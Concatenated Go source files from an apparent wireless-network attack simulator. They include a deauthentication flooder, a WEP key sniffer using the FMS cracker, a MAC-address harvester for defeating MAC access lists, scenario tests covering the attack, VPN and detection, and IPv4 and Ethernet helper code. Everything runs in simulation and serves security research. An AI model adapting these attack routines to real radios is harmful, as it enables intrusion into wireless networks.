		Body: (&dot11.ReasonBody{Reason: dot11.ReasonDeauthLeaving}).Marshal(),
	})
}

// Flood keeps deauthing the victim at the given interval until Stop — the
// "until the client associates with the Rogue AP" loop.
func (d *Deauther) Flood(victim, bssid ethernet.MAC, interval sim.Time) {
	d.stop = false
	var tick func()
	tick = func() {
		if d.stop {
			return
		}
		d.Once(victim, bssid)
		d.kernel.ScheduleAfter(interval, tick)
	}
	tick()
}

// Stop halts an ongoing flood.
func (d *Deauther) Stop() { d.stop = true }

// WEPSniffer is the Airsnort stand-in: a monitor-mode radio feeding every
// protected data frame into the FMS cracker.
type WEPSniffer struct {
	Monitor *dot11.Monitor
	Cracker *wep.Cracker
}

// NewWEPSniffer starts sniffing on channel for keys of keyLen bytes.
func NewWEPSniffer(k *sim.Kernel, medium *phy.Medium, pos phy.Position, channel phy.Channel, keyLen int) *WEPSniffer {
	radio := medium.AddRadio(phy.RadioConfig{Name: "airsnort", Pos: pos, Channel: channel})
	s := &WEPSniffer{
		Monitor: dot11.NewMonitor(radio),
		Cracker: wep.NewCracker(keyLen),
	}
	var reference []byte // a captured frame used to verify key candidates
	s.Cracker.Verify = func(key wep.Key) bool {
		if reference == nil {
			return true
		}
		_, err := wep.Open(key, reference)
		return err == nil
	}
	s.Monitor.OnFrame = func(f dot11.Frame, info phy.RxInfo) {
		if f.Type != dot11.TypeData || !f.Protected {
			return
		}
		if reference == nil && len(f.Body) >= wep.Overhead+dot11.LLCLen {
			reference = append([]byte(nil), f.Body...)
		}
		s.Cracker.AddSealed(f.Body)
	}
	return s
}

// TryRecoverKey attempts FMS recovery on what has been captured so far.
func (s *WEPSniffer) TryRecoverKey() (wep.Key, error) {
	return s.Cracker.RecoverKey()
}

// MACHarvester sniffs active station MACs — "a MAC address that he has
// observed by sniffing network traffic" (§4) — to defeat MAC ACLs.
type MACHarvester struct {
	Monitor *dot11.Monitor
	seen    map[ethernet.MAC]uint64
	bssids  map[ethernet.MAC]bool
}

// NewMACHarvester starts harvesting on channel.
func NewMACHarvester(k *sim.Kernel, medium *phy.Medium, pos phy.Position, channel phy.Channel) *MACHarvester {
	radio := medium.AddRadio(phy.RadioConfig{Name: "harvester", Pos: pos, Channel: channel})
	h := &MACHarvester{
		Monitor: dot11.NewMonitor(radio),
		seen:    make(map[ethernet.MAC]uint64),
		bssids:  make(map[ethernet.MAC]bool),
	}
	h.Monitor.OnFrame = func(f dot11.Frame, info phy.RxInfo) {
		switch {
		case f.Type == dot11.TypeManagement && f.Subtype == dot11.SubtypeBeacon:
			h.bssids[f.Addr2] = true
			delete(h.seen, f.Addr2)
		case f.Type == dot11.TypeData && f.ToDS:
			if !h.bssids[f.Addr2] {
				h.seen[f.Addr2]++
			}
		}
	}
	return h
}

// ClientMACs lists harvested station addresses in ascending address order.
// The order is deterministic: downstream attack steps (MAC cloning) act on
// this list, so map-iteration order here would make runs seed-unstable.
func (h *MACHarvester) ClientMACs() []ethernet.MAC {
	out := make([]ethernet.MAC, 0, len(h.seen))
	for m := range h.seen {
		out = append(out, m)
	}
	sort.Slice(out, func(i, j int) bool {
		return bytes.Compare(out[i][:], out[j][:]) < 0
	})
	return out
}

// Busiest returns the MAC with the most observed frames, if any. Ties break
// toward the lowest address so the result is a pure function of the frames
// observed, not of map iteration order.
func (h *MACHarvester) Busiest() (ethernet.MAC, bool) {
	var best ethernet.MAC
	var n uint64
	for _, m := range h.ClientMACs() {
		if c := h.seen[m]; c > n {
			best, n = m, c
		}
	}
	return best, n > 0
}
