// Package check is the correctness layer's test harness: it replays whole
// simulations and compares their trace digests (sim.Kernel.Digest) to prove
// that every run is a pure function of its seed. Any hidden nondeterminism —
// map-iteration order reaching the wire, wall-clock leakage, cross-world
// shared state — shows up as a digest divergence here long before it shows
// up as an unreproducible experiment.
package check

import "testing"

// AssertDeterministic runs build twice for every seed and fails the test if
// the two runs' trace digests differ, or if any digest is zero (a zero
// digest means no events were mixed — the run did nothing, which is never
// what a scenario intends).
//
// build must construct a fresh simulation from the seed, run it to
// completion, and return the kernel's final Digest(). It must not share
// state between calls.
func AssertDeterministic(t testing.TB, build func(seed uint64) uint64, seeds ...uint64) {
	t.Helper()
	if len(seeds) == 0 {
		seeds = []uint64{1}
	}
	for _, seed := range seeds {
		first := build(seed)
		second := build(seed)
		if first != second {
			t.Errorf("seed %d: trace digest diverged across identical runs: %016x != %016x",
				seed, first, second)
		}
		if first == 0 {
			t.Errorf("seed %d: zero trace digest — the run fired no events", seed)
		}
	}
}
