package check

import (
	"testing"

	"repro/internal/core"
	"repro/internal/sim"
)

// determinismSeeds are the seeds every scenario is replayed under. Three
// well-spread values; each costs two full scenario runs.
var determinismSeeds = []uint64{1, 7, 42}

// TestScenarioDeterminism replays every named cmd/roguesim scenario twice
// per seed, with invariant checking enabled, and requires identical trace
// digests. This is the repo's determinism guarantee made executable.
func TestScenarioDeterminism(t *testing.T) {
	for _, name := range core.ScenarioNames() {
		t.Run(name, func(t *testing.T) {
			AssertDeterministic(t, func(seed uint64) uint64 {
				o, err := core.RunScenario(name, seed, true)
				if err != nil {
					t.Fatalf("RunScenario(%q, %d): %v", name, seed, err)
				}
				return o.Digest
			}, determinismSeeds...)
		})
	}
}

// TestScenarioOutcomesStable pins the semantic outcome of each scenario
// (not just the digest): the attack compromises, the VPN protects, the
// detector alerts. A digest change with an outcome change is a behaviour
// regression, not just trace drift.
func TestScenarioOutcomesStable(t *testing.T) {
	for _, seed := range determinismSeeds {
		attack, err := core.RunScenario("attack", seed, true)
		if err != nil {
			t.Fatal(err)
		}
		if !attack.Download.Compromised() {
			t.Errorf("seed %d: attack scenario did not compromise the victim", seed)
		}
		vpn, err := core.RunScenario("vpn", seed, true)
		if err != nil {
			t.Fatal(err)
		}
		if !vpn.VPNUp {
			t.Errorf("seed %d: vpn scenario tunnel did not come up (err %v)", seed, vpn.VPNErr)
		}
		if !vpn.Download.Clean() {
			t.Errorf("seed %d: vpn scenario download was not clean", seed)
		}
		mesh, err := core.RunScenario("mesh", seed, true)
		if err != nil {
			t.Fatal(err)
		}
		if !mesh.VPNUp {
			t.Errorf("seed %d: mesh scenario tunnel did not come up (err %v)", seed, mesh.VPNErr)
		}
		if !mesh.Download.Clean() {
			t.Errorf("seed %d: mesh scenario download was not clean", seed)
		}
		det, err := core.RunScenario("detect", seed, true)
		if err != nil {
			t.Fatal(err)
		}
		if len(det.Alerts) == 0 {
			t.Errorf("seed %d: detect scenario raised no alerts", seed)
		}
		healthy, err := core.RunScenario("healthy", seed, true)
		if err != nil {
			t.Fatal(err)
		}
		if !healthy.Download.Clean() {
			t.Errorf("seed %d: healthy scenario download was not clean", seed)
		}
	}
}

// TestChaosConvergence is the recovery guarantee made executable: every
// chaos scenario, under every determinism seed, must be back in steady state
// by the fixed deadline the scenario checks (last fault end + grace). The
// check is a single bounded-sim-time assertion inside the run — there is no
// "eventually" polling anywhere, so a recovery that merely *usually* happens
// in time fails here.
func TestChaosConvergence(t *testing.T) {
	for _, name := range []string{"chaos-deauth", "chaos-apcrash", "chaos-burst", "chaos-relay"} {
		t.Run(name, func(t *testing.T) {
			for _, seed := range determinismSeeds {
				o, err := core.RunScenario(name, seed, true)
				if err != nil {
					t.Fatal(err)
				}
				if !o.Converged {
					t.Errorf("seed %d: %s did not converge within the grace window", seed, name)
				}
				if o.Download.Err != nil {
					t.Errorf("seed %d: %s download failed outright: %v", seed, name, o.Download.Err)
				}
			}
		})
	}
}

// TestDigestSeedSensitivity checks the digest actually depends on the seed:
// different seeds must (for these scenarios) produce different traces. A
// digest that ignores its inputs would pass AssertDeterministic trivially.
func TestDigestSeedSensitivity(t *testing.T) {
	digests := make(map[uint64]uint64)
	for _, seed := range determinismSeeds {
		o, err := core.RunScenario("attack", seed, true)
		if err != nil {
			t.Fatal(err)
		}
		digests[seed] = o.Digest
	}
	seen := make(map[uint64]uint64)
	for seed, d := range digests {
		if prev, dup := seen[d]; dup {
			t.Errorf("seeds %d and %d produced identical digests %016x", prev, seed, d)
		}
		seen[d] = seed
	}
}

// TestAssertDeterministicCatchesDivergence makes sure the harness itself
// can fail: a build function with hidden state must be flagged.
func TestAssertDeterministicCatchesDivergence(t *testing.T) {
	var calls uint64
	rec := &recordingTB{TB: t}
	AssertDeterministic(rec, func(seed uint64) uint64 {
		calls++
		return seed + calls // differs between the two runs
	}, 5)
	if !rec.failed {
		t.Fatal("AssertDeterministic accepted a divergent build function")
	}
}

// TestInvariantViolationSurfaces proves registered invariants actually run:
// a kernel with checks enabled and an always-failing invariant must report
// it at the first event boundary.
func TestInvariantViolationSurfaces(t *testing.T) {
	k := sim.NewKernel(1)
	k.SetInvariantChecks(true)
	var got *sim.InvariantViolation
	k.OnViolation = func(v *sim.InvariantViolation) { got = v }
	k.RegisterInvariant("always-fails", func() error {
		return errTest
	})
	k.After(sim.Second, func() {})
	k.RunFor(2 * sim.Second)
	if got == nil {
		t.Fatal("invariant violation was not reported")
	}
	if got.Name != "always-fails" {
		t.Fatalf("violation name = %q, want %q", got.Name, "always-fails")
	}
}

var errTest = errorString("synthetic failure")

type errorString string

func (e errorString) Error() string { return string(e) }

// recordingTB captures Errorf calls without failing the enclosing test.
type recordingTB struct {
	testing.TB
	failed bool
}

func (r *recordingTB) Errorf(string, ...any) { r.failed = true }
func (r *recordingTB) Helper()               {}
