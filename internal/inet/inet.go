// Package inet holds the small shared vocabulary of internet types used by
// every layer of the simulated stack: IPv4 addresses, CIDR prefixes, ports,
// and the ones-complement checksum. Keeping these in a leaf package lets
// ethernet, arp, ipv4, tcp and udp share them without import cycles.
package inet

import (
	"fmt"
	"strconv"
	"strings"
)

// Addr is an IPv4 address in network byte order.
type Addr [4]byte

// Unspecified is the zero address 0.0.0.0.
var Unspecified = Addr{}

// Broadcast is the limited broadcast address 255.255.255.255.
var Broadcast = Addr{255, 255, 255, 255}

// MustParseAddr parses a dotted-quad address, panicking on error. Intended
// for constants in tests and topology builders.
func MustParseAddr(s string) Addr {
	a, err := ParseAddr(s)
	if err != nil {
		panic(err)
	}
	return a
}

// ParseAddr parses a dotted-quad IPv4 address.
func ParseAddr(s string) (Addr, error) {
	var a Addr
	parts := strings.Split(s, ".")
	if len(parts) != 4 {
		return a, fmt.Errorf("inet: bad address %q", s)
	}
	for i, p := range parts {
		v, err := strconv.Atoi(p)
		if err != nil || v < 0 || v > 255 || (len(p) > 1 && p[0] == '0') {
			return a, fmt.Errorf("inet: bad address %q", s)
		}
		a[i] = byte(v)
	}
	return a, nil
}

// String formats the address as a dotted quad.
func (a Addr) String() string {
	return fmt.Sprintf("%d.%d.%d.%d", a[0], a[1], a[2], a[3])
}

// IsUnspecified reports whether a is 0.0.0.0.
func (a Addr) IsUnspecified() bool { return a == Unspecified }

// IsBroadcast reports whether a is 255.255.255.255.
func (a Addr) IsBroadcast() bool { return a == Broadcast }

// IsMulticast reports whether a is in 224.0.0.0/4.
func (a Addr) IsMulticast() bool { return a[0] >= 224 && a[0] < 240 }

// Uint32 returns the address as a big-endian integer.
func (a Addr) Uint32() uint32 {
	return uint32(a[0])<<24 | uint32(a[1])<<16 | uint32(a[2])<<8 | uint32(a[3])
}

// AddrFromUint32 builds an address from a big-endian integer.
func AddrFromUint32(v uint32) Addr {
	return Addr{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)}
}

// Next returns the numerically following address (useful for allocators).
func (a Addr) Next() Addr { return AddrFromUint32(a.Uint32() + 1) }

// Prefix is a CIDR prefix: a network address and a mask length.
type Prefix struct {
	Addr Addr
	Bits int
}

// MustParsePrefix parses "a.b.c.d/n", panicking on error.
func MustParsePrefix(s string) Prefix {
	p, err := ParsePrefix(s)
	if err != nil {
		panic(err)
	}
	return p
}

// ParsePrefix parses CIDR notation "a.b.c.d/n". The address is canonicalised
// to the network address (host bits cleared).
func ParsePrefix(s string) (Prefix, error) {
	i := strings.IndexByte(s, '/')
	if i < 0 {
		return Prefix{}, fmt.Errorf("inet: bad prefix %q", s)
	}
	a, err := ParseAddr(s[:i])
	if err != nil {
		return Prefix{}, err
	}
	bits, err := strconv.Atoi(s[i+1:])
	if err != nil || bits < 0 || bits > 32 {
		return Prefix{}, fmt.Errorf("inet: bad prefix length in %q", s)
	}
	p := Prefix{Addr: a, Bits: bits}
	p.Addr = AddrFromUint32(a.Uint32() & p.maskUint32())
	return p, nil
}

func (p Prefix) maskUint32() uint32 {
	if p.Bits == 0 {
		return 0
	}
	return ^uint32(0) << (32 - p.Bits)
}

// Mask returns the netmask as an address.
func (p Prefix) Mask() Addr { return AddrFromUint32(p.maskUint32()) }

// Contains reports whether a is inside the prefix.
func (p Prefix) Contains(a Addr) bool {
	return a.Uint32()&p.maskUint32() == p.Addr.Uint32()
}

// BroadcastAddr returns the directed-broadcast address of the prefix.
func (p Prefix) BroadcastAddr() Addr {
	return AddrFromUint32(p.Addr.Uint32() | ^p.maskUint32())
}

// String formats the prefix in CIDR notation.
func (p Prefix) String() string { return fmt.Sprintf("%s/%d", p.Addr, p.Bits) }

// Port is a TCP or UDP port number.
type Port uint16

// String formats the port in decimal.
func (p Port) String() string { return strconv.Itoa(int(p)) }

// HostPort is an (address, port) endpoint.
type HostPort struct {
	Addr Addr
	Port Port
}

// String formats the endpoint as "addr:port".
func (hp HostPort) String() string { return hp.Addr.String() + ":" + hp.Port.String() }

// ParseHostPort parses "a.b.c.d:port".
func ParseHostPort(s string) (HostPort, error) {
	i := strings.LastIndexByte(s, ':')
	if i < 0 {
		return HostPort{}, fmt.Errorf("inet: bad host:port %q", s)
	}
	a, err := ParseAddr(s[:i])
	if err != nil {
		return HostPort{}, err
	}
	p, err := strconv.Atoi(s[i+1:])
	if err != nil || p < 0 || p > 65535 {
		return HostPort{}, fmt.Errorf("inet: bad port in %q", s)
	}
	return HostPort{Addr: a, Port: Port(p)}, nil
}

// MustParseHostPort parses "a.b.c.d:port", panicking on error.
func MustParseHostPort(s string) HostPort {
	hp, err := ParseHostPort(s)
	if err != nil {
		panic(err)
	}
	return hp
}

// Checksum computes the RFC 1071 ones-complement checksum over b.
func Checksum(b []byte) uint16 {
	return FinishChecksum(SumBytes(0, b))
}

// SumBytes accumulates bytes into a partial ones-complement sum. Use with
// FinishChecksum for multi-slice checksums (e.g. pseudo-header + segment).
func SumBytes(sum uint32, b []byte) uint32 {
	n := len(b)
	for i := 0; i+1 < n; i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if n%2 == 1 {
		sum += uint32(b[n-1]) << 8
	}
	return sum
}

// FinishChecksum folds and complements a partial sum.
func FinishChecksum(sum uint32) uint16 {
	for sum>>16 != 0 {
		sum = (sum & 0xffff) + (sum >> 16)
	}
	return ^uint16(sum)
}

// PseudoHeaderSum computes the TCP/UDP pseudo-header partial sum.
func PseudoHeaderSum(src, dst Addr, proto uint8, length uint16) uint32 {
	var sum uint32
	sum = SumBytes(sum, src[:])
	sum = SumBytes(sum, dst[:])
	sum += uint32(proto)
	sum += uint32(length)
	return sum
}
