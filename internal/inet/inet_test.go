package inet

import (
	"testing"
	"testing/quick"
)

func TestParseAddrValid(t *testing.T) {
	cases := map[string]Addr{
		"0.0.0.0":         {0, 0, 0, 0},
		"10.0.0.1":        {10, 0, 0, 1},
		"192.168.1.254":   {192, 168, 1, 254},
		"255.255.255.255": {255, 255, 255, 255},
	}
	for s, want := range cases {
		got, err := ParseAddr(s)
		if err != nil {
			t.Errorf("ParseAddr(%q) error: %v", s, err)
			continue
		}
		if got != want {
			t.Errorf("ParseAddr(%q) = %v, want %v", s, got, want)
		}
		if got.String() != s {
			t.Errorf("String() = %q, want %q", got.String(), s)
		}
	}
}

func TestParseAddrInvalid(t *testing.T) {
	for _, s := range []string{"", "1.2.3", "1.2.3.4.5", "256.0.0.1", "-1.0.0.0", "a.b.c.d", "01.2.3.4", "1..2.3"} {
		if _, err := ParseAddr(s); err == nil {
			t.Errorf("ParseAddr(%q) succeeded, want error", s)
		}
	}
}

func TestMustParseAddrPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustParseAddr did not panic on bad input")
		}
	}()
	MustParseAddr("not an address")
}

func TestAddrPredicates(t *testing.T) {
	if !Unspecified.IsUnspecified() {
		t.Error("Unspecified")
	}
	if !Broadcast.IsBroadcast() {
		t.Error("Broadcast")
	}
	if !MustParseAddr("224.0.0.1").IsMulticast() {
		t.Error("multicast low")
	}
	if !MustParseAddr("239.255.255.255").IsMulticast() {
		t.Error("multicast high")
	}
	if MustParseAddr("240.0.0.1").IsMulticast() {
		t.Error("240/4 is not multicast")
	}
	if MustParseAddr("10.0.0.1").IsMulticast() {
		t.Error("unicast flagged multicast")
	}
}

func TestAddrUint32RoundTrip(t *testing.T) {
	f := func(v uint32) bool {
		return AddrFromUint32(v).Uint32() == v
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestAddrNext(t *testing.T) {
	if MustParseAddr("10.0.0.255").Next() != MustParseAddr("10.0.1.0") {
		t.Error("Next across octet boundary")
	}
}

func TestParsePrefix(t *testing.T) {
	p := MustParsePrefix("10.0.0.0/24")
	if p.String() != "10.0.0.0/24" {
		t.Errorf("String = %q", p)
	}
	if !p.Contains(MustParseAddr("10.0.0.200")) {
		t.Error("Contains inside")
	}
	if p.Contains(MustParseAddr("10.0.1.1")) {
		t.Error("Contains outside")
	}
	if p.Mask() != MustParseAddr("255.255.255.0") {
		t.Errorf("Mask = %v", p.Mask())
	}
	if p.BroadcastAddr() != MustParseAddr("10.0.0.255") {
		t.Errorf("BroadcastAddr = %v", p.BroadcastAddr())
	}
}

func TestParsePrefixCanonicalises(t *testing.T) {
	p := MustParsePrefix("10.0.0.77/24")
	if p.Addr != MustParseAddr("10.0.0.0") {
		t.Errorf("host bits not cleared: %v", p.Addr)
	}
}

func TestPrefixZeroBitsContainsEverything(t *testing.T) {
	p := MustParsePrefix("0.0.0.0/0")
	for _, s := range []string{"0.0.0.0", "10.1.2.3", "255.255.255.255"} {
		if !p.Contains(MustParseAddr(s)) {
			t.Errorf("/0 does not contain %s", s)
		}
	}
}

func TestPrefix32IsExactMatch(t *testing.T) {
	p := MustParsePrefix("10.0.0.1/32")
	if !p.Contains(MustParseAddr("10.0.0.1")) {
		t.Error("exact miss")
	}
	if p.Contains(MustParseAddr("10.0.0.2")) {
		t.Error("inexact hit")
	}
}

func TestParsePrefixInvalid(t *testing.T) {
	for _, s := range []string{"10.0.0.0", "10.0.0.0/33", "10.0.0.0/-1", "x/24", "10.0.0.0/x"} {
		if _, err := ParsePrefix(s); err == nil {
			t.Errorf("ParsePrefix(%q) succeeded", s)
		}
	}
}

func TestHostPort(t *testing.T) {
	hp := MustParseHostPort("10.0.0.1:8080")
	if hp.Addr != MustParseAddr("10.0.0.1") || hp.Port != 8080 {
		t.Errorf("parsed %v", hp)
	}
	if hp.String() != "10.0.0.1:8080" {
		t.Errorf("String = %q", hp.String())
	}
	for _, s := range []string{"10.0.0.1", "10.0.0.1:99999", "10.0.0.1:x", "x:80"} {
		if _, err := ParseHostPort(s); err == nil {
			t.Errorf("ParseHostPort(%q) succeeded", s)
		}
	}
}

func TestChecksumKnownVector(t *testing.T) {
	// Classic example from RFC 1071 materials.
	data := []byte{0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7}
	got := Checksum(data)
	want := ^uint16(0xddf2)
	if got != want {
		t.Fatalf("Checksum = %#x, want %#x", got, want)
	}
}

func TestChecksumOddLength(t *testing.T) {
	// Odd length pads with a zero byte.
	if Checksum([]byte{0xab}) != Checksum([]byte{0xab, 0x00}) {
		t.Fatal("odd-length padding mismatch")
	}
}

func TestChecksumEmptyIsAllOnes(t *testing.T) {
	if Checksum(nil) != 0xffff {
		t.Fatalf("Checksum(nil) = %#x", Checksum(nil))
	}
}

// Property: a packet whose checksum field contains the computed checksum
// verifies to zero — the standard IP header validity check.
func TestQuickChecksumVerifies(t *testing.T) {
	f := func(data []byte) bool {
		if len(data)%2 == 1 {
			data = append(data, 0)
		}
		c := Checksum(data)
		withSum := append(append([]byte{}, data...), byte(c>>8), byte(c))
		return Checksum(withSum) == 0
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestSumBytesSplitEqualsWhole(t *testing.T) {
	f := func(a, b []byte) bool {
		whole := SumBytes(0, append(append([]byte{}, a...), b...))
		// Splitting is only sum-equivalent on even boundaries.
		if len(a)%2 == 1 {
			a = append(a, 0)
			whole = SumBytes(0, append(append([]byte{}, a...), b...))
		}
		split := SumBytes(SumBytes(0, a), b)
		return FinishChecksum(whole) == FinishChecksum(split)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestPseudoHeaderSum(t *testing.T) {
	src := MustParseAddr("10.0.0.1")
	dst := MustParseAddr("10.0.0.2")
	s1 := PseudoHeaderSum(src, dst, 6, 20)
	s2 := PseudoHeaderSum(src, dst, 6, 21)
	if s1 == s2 {
		t.Fatal("length not included in pseudo-header")
	}
	s3 := PseudoHeaderSum(dst, src, 6, 20)
	if FinishChecksum(s1) != FinishChecksum(s3) {
		// src/dst swap keeps the same sum (commutative); this documents it.
		t.Fatal("pseudo-header sum should be commutative in addresses")
	}
}
