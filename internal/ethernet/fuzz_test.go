package ethernet

import (
	"bytes"
	"testing"
)

// FuzzFrame checks the Ethernet II codec: decode→encode→decode must be
// stable and panic-free for any input.
func FuzzFrame(f *testing.F) {
	seed := Frame{
		Dst:     MustParseMAC("02:aa:bb:cc:dd:01"),
		Src:     MustParseMAC("02:00:00:00:03:01"),
		Type:    TypeIPv4,
		Payload: []byte("ip packet bytes"),
	}
	f.Add(seed.Marshal())
	f.Add((&Frame{Dst: BroadcastMAC, Type: TypeARP}).Marshal())
	f.Add([]byte{})
	f.Add(bytes.Repeat([]byte{0x00}, HeaderLen-1))

	f.Fuzz(func(t *testing.T, b []byte) {
		f1, err := Unmarshal(b)
		if err != nil {
			return
		}
		b2 := f1.Marshal()
		if !bytes.Equal(b2, b[:f1.WireLen()]) {
			t.Fatalf("re-encode differs from input: %x != %x", b2, b)
		}
		f2, err := Unmarshal(b2)
		if err != nil {
			t.Fatalf("re-decode failed: %v", err)
		}
		if f1.Dst != f2.Dst || f1.Src != f2.Src || f1.Type != f2.Type || !bytes.Equal(f1.Payload, f2.Payload) {
			t.Fatalf("frame round-trip unstable: %+v != %+v", f1, f2)
		}
	})
}

// FuzzParseMAC checks the textual MAC parser against its formatter.
func FuzzParseMAC(f *testing.F) {
	f.Add("02:aa:bb:cc:dd:01")
	f.Add("ff:ff:ff:ff:ff:ff")
	f.Add("02-aa-bb-cc-dd-01")
	f.Add("")
	f.Add("02:aa:bb:cc:dd")
	f.Fuzz(func(t *testing.T, s string) {
		m, err := ParseMAC(s)
		if err != nil {
			return
		}
		m2, err := ParseMAC(m.String())
		if err != nil || m2 != m {
			t.Fatalf("ParseMAC(String()) round-trip failed: %v %v != %v", err, m2, m)
		}
	})
}
