package ethernet

import (
	"math"

	"repro/internal/sim"
)

// Port is one end of a cable: a wired NIC. It implements NIC for hosts and is
// also the attachment unit for Switch and Hub.
type Port struct {
	kernel *sim.Kernel
	mac    MAC
	mtu    int
	peer   *Port // other end of the cable
	// Cable characteristics (shared by both directions).
	bitsPerSec float64
	propDelay  sim.Time
	// busyUntil serialises transmissions in this direction.
	busyUntil sim.Time

	recv        Receiver
	promiscuous bool

	// Counters.
	TxFrames, RxFrames uint64
	TxBytes, RxBytes   uint64
}

// PortConfig configures one cable. Zero values get sensible defaults
// (100 Mb/s, 1 µs propagation).
type PortConfig struct {
	BitsPerSec float64
	PropDelay  sim.Time
	MTU        int
}

func (c *PortConfig) fill() {
	if c.BitsPerSec == 0 {
		c.BitsPerSec = 100e6
	}
	if c.PropDelay == 0 {
		c.PropDelay = sim.Microsecond
	}
	if c.MTU == 0 {
		c.MTU = DefaultMTU
	}
}

// NewCable creates two connected ports (a point-to-point full-duplex cable).
func NewCable(k *sim.Kernel, macA, macB MAC, cfg PortConfig) (*Port, *Port) {
	cfg.fill()
	a := &Port{kernel: k, mac: macA, mtu: cfg.MTU, bitsPerSec: cfg.BitsPerSec, propDelay: cfg.PropDelay}
	b := &Port{kernel: k, mac: macB, mtu: cfg.MTU, bitsPerSec: cfg.BitsPerSec, propDelay: cfg.PropDelay}
	a.peer, b.peer = b, a
	return a, b
}

// HWAddr implements NIC.
func (p *Port) HWAddr() MAC { return p.mac }

// MTU implements NIC.
func (p *Port) MTU() int { return p.mtu }

// SetReceiver implements NIC.
func (p *Port) SetReceiver(r Receiver) { p.recv = r }

// SetPromiscuous makes the port deliver all frames regardless of destination,
// like a sniffer on a tap. Used by experiment E8.
func (p *Port) SetPromiscuous(on bool) { p.promiscuous = on }

// Send implements NIC: it frames the payload and transmits on the cable.
func (p *Port) Send(dst MAC, t EtherType, payload []byte) {
	p.Transmit(Frame{Dst: dst, Src: p.mac, Type: t, Payload: payload})
}

// Transmit puts an already-built frame on the wire. Exposed so bridges and
// switches can forward frames with their original source address.
func (p *Port) Transmit(f Frame) {
	if p.peer == nil {
		return // unplugged
	}
	if len(f.Payload) > p.mtu {
		p.kernel.Tracef("ethernet", "drop oversize frame (%d > MTU %d)", len(f.Payload), p.mtu)
		return
	}
	txTime := sim.Time(math.Round(float64(f.WireLen()*8) / p.bitsPerSec * float64(sim.Second)))
	start := p.kernel.Now()
	if p.busyUntil > start {
		start = p.busyUntil
	}
	end := start + txTime
	p.busyUntil = end
	p.TxFrames++
	p.TxBytes += uint64(f.WireLen())
	peer := p.peer
	p.kernel.At(end+p.propDelay, func() { peer.deliver(f) })
}

func (p *Port) deliver(f Frame) {
	p.RxFrames++
	p.RxBytes += uint64(f.WireLen())
	if p.recv == nil {
		return
	}
	if p.promiscuous || f.Dst == p.mac || f.Dst.IsMulticast() {
		p.kernel.MixDigest("eth/rx", f.Payload)
		p.recv(f)
	}
}

var _ NIC = (*Port)(nil)
