package ethernet

import (
	"math"

	"repro/internal/pkt"
	"repro/internal/sim"
)

// Port is one end of a cable: a wired NIC. It implements NIC for hosts and is
// also the attachment unit for Switch and Hub.
type Port struct {
	kernel *sim.Kernel
	mac    MAC
	mtu    int
	peer   *Port // other end of the cable
	// Cable characteristics (shared by both directions).
	bitsPerSec float64
	propDelay  sim.Time
	// busyUntil serialises transmissions in this direction.
	busyUntil sim.Time

	recv        Receiver
	promiscuous bool
	faults      *FaultProfile

	// Counters.
	TxFrames, RxFrames uint64
	TxBytes, RxBytes   uint64
	// Fault counters (only move while a FaultProfile is installed).
	FaultDrops, FaultCorrupted, FaultDuplicated uint64
}

// FaultProfile injects wire-level faults into a port's transmissions: a bad
// crimp (drops), a marginal PHY (single-byte corruption the IP checksum must
// catch), or a flapping bridge loop (duplicate delivery). All decisions draw
// from the given RNG, so faulty runs stay a pure function of the seed.
// internal/faults installs and removes profiles on schedule.
type FaultProfile struct {
	DropP    float64
	CorruptP float64
	DupP     float64
	RNG      *sim.RNG
}

// SetFaults installs (or, with nil, removes) the port's fault profile.
func (p *Port) SetFaults(fp *FaultProfile) { p.faults = fp }

// Peer returns the other end of the cable (nil if unplugged). Fault
// installers use it to cover both directions of a link.
func (p *Port) Peer() *Port { return p.peer }

// PortConfig configures one cable. Zero values get sensible defaults
// (100 Mb/s, 1 µs propagation).
type PortConfig struct {
	BitsPerSec float64
	PropDelay  sim.Time
	MTU        int
}

func (c *PortConfig) fill() {
	if c.BitsPerSec == 0 {
		c.BitsPerSec = 100e6
	}
	if c.PropDelay == 0 {
		c.PropDelay = sim.Microsecond
	}
	if c.MTU == 0 {
		c.MTU = DefaultMTU
	}
}

// NewCable creates two connected ports (a point-to-point full-duplex cable).
func NewCable(k *sim.Kernel, macA, macB MAC, cfg PortConfig) (*Port, *Port) {
	cfg.fill()
	a := &Port{kernel: k, mac: macA, mtu: cfg.MTU, bitsPerSec: cfg.BitsPerSec, propDelay: cfg.PropDelay}
	b := &Port{kernel: k, mac: macB, mtu: cfg.MTU, bitsPerSec: cfg.BitsPerSec, propDelay: cfg.PropDelay}
	a.peer, b.peer = b, a
	return a, b
}

// HWAddr implements NIC.
func (p *Port) HWAddr() MAC { return p.mac }

// MTU implements NIC.
func (p *Port) MTU() int { return p.mtu }

// SetReceiver implements NIC.
func (p *Port) SetReceiver(r Receiver) { p.recv = r }

// SetPromiscuous makes the port deliver all frames regardless of destination,
// like a sniffer on a tap. Used by experiment E8.
func (p *Port) SetPromiscuous(on bool) { p.promiscuous = on }

// Send implements NIC: it frames the payload and transmits on the cable.
// The payload is copied into a pooled buffer (Transmit clones); hot paths
// hand over an owned buffer via SendBuf instead.
func (p *Port) Send(dst MAC, t EtherType, payload []byte) {
	p.Transmit(Frame{Dst: dst, Src: p.mac, Type: t, Payload: payload})
}

// SendBuf implements NIC: zero-copy transmit of an owned packet buffer. The
// port takes ownership of pb and releases it once the frame has been
// delivered (or dropped).
func (p *Port) SendBuf(dst MAC, t EtherType, pb *pkt.Buf) {
	p.xmit(Frame{Dst: dst, Src: p.mac, Type: t, Payload: pb.Bytes()}, pb)
}

// Transmit puts an already-built frame on the wire. Exposed so bridges and
// switches can forward frames with their original source address. The
// payload is cloned into a pooled buffer: the caller's view may alias a
// buffer that is released (and recycled) long before the frame's delivery
// event fires.
func (p *Port) Transmit(f Frame) {
	if p.peer == nil {
		return // unplugged
	}
	pb := p.kernel.BufPool().GetCopy(f.Payload)
	f.Payload = pb.Bytes()
	p.xmit(f, pb)
}

// xmit applies the MTU gate and fault profile, then transmits. It owns pb
// (f.Payload views it) and releases it on every drop path; fault corruption
// mutates the buffer in place.
//
//simvet:owner transfer releases pb on every drop path, else forwards it to transmit
